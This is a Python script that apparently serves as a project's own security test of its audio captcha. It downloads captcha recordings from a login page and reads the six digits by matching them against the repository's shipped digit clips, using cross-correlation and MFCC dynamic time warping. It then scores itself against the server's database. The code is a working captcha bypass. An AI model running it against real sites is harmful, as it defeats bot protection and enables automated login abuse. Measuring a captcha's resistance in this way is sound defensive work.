#!/usr/bin/env python3
"""An attacker's reader for the audio captcha, written as someone with the repository would.

It knows only what the project ships: the digit clips in app/data/captcha-audio (any layout:
`0.wav … 9.wav`, or one folder of ten clips per voice). For each challenge it asks a page for a
fresh captcha id, downloads `/captcha/{id}.wav` and reads the six digits two ways:

- `xcorr`: normalised cross-correlation of every shipped clip (also resampled by a grid of
  factors, as the mixer might have) along the recording; the best non-overlapping matches,
  left to right.
- `dtw`: the recording cut into its six loudest stretches of sound; each compared with every
  shipped clip (resampled by the same factors) by dynamic time warping of MFCCs; the nearest
  clip's digit.

A challenge counts as read when either reading is right. The truth is not asked of the server:
the measurer gives the SQLite database file of the server under test (`--db`) and the script
looks the challenge up there after reading it (an attacker would instead submit the answer).

    python3 scripts/attack/captcha_audio_solver.py --base http://127.0.0.1:3300 \
        --db /tmp/portal.db --n 20

Needs numpy and scipy (`pip install numpy scipy`).
"""
import argparse
import io
import pathlib
import re
import sqlite3
import sys
import time
import urllib.request
import wave

import numpy as np
from scipy import fft as sfft
from scipy.signal import resample_poly, fftconvolve

RATE = 8000
DIGITS = 6


def read_wav(data: bytes) -> np.ndarray:
    with wave.open(io.BytesIO(data)) as w:
        assert w.getsampwidth() == 2 and w.getnchannels() == 1, "16-bit mono expected"
        x = np.frombuffer(w.readframes(w.getnframes()), dtype="<i2").astype(np.float64)
        if w.getframerate() != RATE:
            x = resample_poly(x, RATE, w.getframerate())
    return x


def shipped_clips(root: pathlib.Path):
    """(digit, samples) for every clip the repository ships."""
    out = []
    for f in sorted(root.rglob("*.wav")):
        if f.stem.isdigit() and len(f.stem) == 1:
            out.append((int(f.stem), read_wav(f.read_bytes())))
    if not out:
        sys.exit(f"no clips under {root}")
    return out


def stretched(x, factor):
    """`x` played `factor` times faster (pitch and tempo together)."""
    if abs(factor - 1) < 1e-6:
        return x
    up, down = int(round(100 / factor)), 100
    return resample_poly(x, up, down)


# --- cross-correlation -------------------------------------------------------------------------

def ncc(x, h):
    """Normalised cross-correlation of template h at every offset of x."""
    L = len(h)
    if L >= len(x):
        return np.zeros(1)
    h = h - h.mean()
    num = fftconvolve(x, h[::-1], mode="valid")
    c2 = np.concatenate([[0], np.cumsum(x * x)])
    energy = np.sqrt(np.maximum(c2[L:] - c2[:-L], 1e-9))
    return num / (energy * np.linalg.norm(h) + 1e-9)


def read_xcorr(x, templates):
    cands = []
    for digit, h in templates:
        c = ncc(x, h)
        # Local maxima of this template's score, its best 8.
        idx = np.argsort(c)[::-1][:400]
        taken = []
        for i in idx:
            if all(abs(i - j) > len(h) // 2 for j in taken):
                taken.append(i)
                cands.append((c[i], i, len(h), digit))
            if len(taken) >= 8:
                break
    cands.sort(reverse=True)
    chosen = []
    for score, at, L, digit in cands:
        if all(at + L * 0.7 <= a or a + l * 0.7 <= at for _, a, l, _ in chosen):
            chosen.append((score, at, L, digit))
        if len(chosen) == DIGITS:
            break
    chosen.sort(key=lambda c: c[1])
    return "".join(str(c[3]) for c in chosen)


# --- MFCC + DTW ----------------------------------------------------------------------------------

def mel_bank(n_fft=256, n_mels=26):
    def mel(f):
        return 2595 * np.log10(1 + f / 700)

    def hz(m):
        return 700 * (10 ** (m / 2595) - 1)

    pts = hz(np.linspace(mel(60), mel(RATE / 2), n_mels + 2))
    bins = np.floor((n_fft + 1) * pts / RATE).astype(int)
    fb = np.zeros((n_mels, n_fft // 2 + 1))
    for m in range(1, n_mels + 1):
        a, b, c = bins[m - 1], bins[m], bins[m + 1]
        for k in range(a, b):
            fb[m - 1, k] = (k - a) / max(b - a, 1)
        for k in range(b, c):
            fb[m - 1, k] = (c - k) / max(c - b, 1)
    return fb


FB = mel_bank()


def mfcc(x):
    x = np.append(x[0], x[1:] - 0.97 * x[:-1])
    n, hop = 200, 80
    if len(x) < n:
        x = np.pad(x, (0, n - len(x)))
    frames = np.lib.stride_tricks.sliding_window_view(x, n)[::hop] * np.hamming(n)
    power = np.abs(np.fft.rfft(frames, 256)) ** 2
    mel = power @ FB.T
    # Within 30 dB of the loudest band: quiet frames (silence or noise) all look alike.
    logmel = np.log(np.maximum(mel, mel.max() * 1e-3) + 1e-6)
    c = sfft.dct(logmel, type=2, axis=1, norm="ortho")[:, 1:14]
    return c - c.mean(axis=0)  # cepstral mean normalisation


def dtw(a, b):
    cost = np.sqrt(((a[:, None, :] - b[None, :, :]) ** 2).sum(-1))
    n, m = cost.shape
    D = np.full((n + 1, m + 1), np.inf)
    D[0, 0] = 0
    for i in range(1, n + 1):
        row = D[i]
        prev = D[i - 1]
        c = cost[i - 1]
        # Symmetric steps: a diagonal step costs twice, so the path's weight is n + m.
        diag_up = np.minimum(prev[:-1] + 2 * c, prev[1:] + c)
        for j in range(1, m + 1):
            row[j] = min(diag_up[j - 1], row[j - 1] + c[j - 1])
    return D[n, m] / (n + m)


def segments(x):
    """The six loudest stretches of sound, left to right, as (start, end) samples: from the
    loudest down, the first energy threshold that shows six separate stretches (gaps shorter
    than 150 ms closed: the attacker knows the pauses are longer), each then widened while the
    sound stays within 15 dB of that threshold."""
    hop = 80
    e = np.array([np.sum(x[i:i + 160] ** 2) for i in range(0, len(x) - 160, hop)])
    e = np.convolve(e, np.ones(3) / 3, mode="same")
    loge = np.log(e + 1e-6)

    def stretches(thr):
        on = loge > thr
        segs, start = [], None
        for i, v in enumerate(np.append(on, False)):
            if v and start is None:
                start = i
            elif not v and start is not None:
                segs.append([start, i])
                start = None
        merged = []
        for s in segs:
            if merged and s[0] - merged[-1][1] < 15:
                merged[-1][1] = s[1]
            else:
                merged.append(s)
        return merged

    best, best_thr = None, None
    for q in np.linspace(0.99, 0.3, 70):
        thr = np.quantile(loge, q)
        segs = stretches(thr)
        if best is None or len(segs) > len(best) and len(best) < DIGITS:
            best, best_thr = segs, thr
        if len(segs) >= DIGITS:
            best, best_thr = segs, thr
            break
    best.sort(key=lambda s: -e[s[0]:s[1]].sum())
    best = sorted(best[:DIGITS])
    low = best_thr - 3.5
    out = []
    for k, (s, t) in enumerate(best):
        left = best[k - 1][1] if k else 0
        right = best[k + 1][0] if k + 1 < len(best) else len(loge)
        while s > left and loge[s - 1] > low:
            s -= 1
        while t < right and loge[t] > low:
            t += 1
        out.append((s * hop, t * hop + 160))
    return out


def read_dtw(x, templates_mfcc):
    out = []
    for s, t in segments(x):
        m = mfcc(x[s:t])
        best = min(templates_mfcc, key=lambda dt: dtw(m, dt[1]))
        out.append(str(best[0]))
    return "".join(out)


# --- the attack ----------------------------------------------------------------------------------

def fetch(url, opener):
    with opener.open(url, timeout=60) as r:
        return r.read()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--base", required=True)
    ap.add_argument("--db", help="the server's SQLite file, to look the truth up after reading")
    ap.add_argument("--clips", default="app/data/captcha-audio")
    ap.add_argument("--page", default="/dang-nhap")
    ap.add_argument("--n", type=int, default=20)
    ap.add_argument("--factors", default="0.86,0.93,1.0,1.07,1.14",
                    help="resampling factors tried for each shipped clip (both readings)")
    ap.add_argument("--save", help="folder to keep the recordings in")
    args = ap.parse_args()

    clips = shipped_clips(pathlib.Path(args.clips))
    factors = [float(f) for f in args.factors.split(",")]
    templates = [(d, stretched(c, f)) for d, c in clips for f in factors]
    templates_mfcc = [(d, mfcc(c)) for d, c in templates]
    print(f"{len(clips)} shipped clips, {len(templates)} templates for cross-correlation",
          file=sys.stderr)
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
    db = sqlite3.connect(args.db) if args.db else None
    score = {"xcorr": 0, "dtw": 0, "either": 0}
    digits_right = {"xcorr": 0, "dtw": 0}
    for k in range(args.n):
        page = fetch(args.base + args.page, opener).decode()
        m = re.search(r'name="f\[captcha_id\]"[^>]*value="([0-9A-Za-z_-]+)"', page) or \
            re.search(r'value="([0-9A-Za-z_-]+)"[^>]*name="f\[captcha_id\]"', page)
        if not m:
            sys.exit("no captcha id on the page")
        cid = m.group(1)
        t0 = time.time()
        data = fetch(f"{args.base}/captcha/{cid}.wav", opener)
        if args.save:
            pathlib.Path(args.save).mkdir(parents=True, exist_ok=True)
            pathlib.Path(args.save, f"{k:02d}.wav").write_bytes(data)
        x = read_wav(data)
        a = read_xcorr(x, templates)
        b = read_dtw(x, templates_mfcc)
        truth = None
        if db:
            row = db.execute("SELECT audio_code FROM captchas WHERE id = ?", (cid,)).fetchone()
            truth = row[0] if row else None
        ok_a, ok_b = a == truth, b == truth
        score["xcorr"] += ok_a
        score["dtw"] += ok_b
        score["either"] += ok_a or ok_b
        if truth:
            digits_right["xcorr"] += sum(p == q for p, q in zip(a, truth))
            digits_right["dtw"] += sum(p == q for p, q in zip(b, truth))
        print(f"{k + 1:3d} truth={truth} xcorr={a}{' ✓' if ok_a else ''} "
              f"dtw={b}{' ✓' if ok_b else ''} ({time.time() - t0:.1f} s)", flush=True)
    n = args.n
    print(f"read: xcorr {score['xcorr']}/{n}, dtw {score['dtw']}/{n}, "
          f"either {score['either']}/{n}; digits right: xcorr "
          f"{digits_right['xcorr']}/{n * DIGITS}, dtw {digits_right['dtw']}/{n * DIGITS}")


if __name__ == "__main__":
    main()
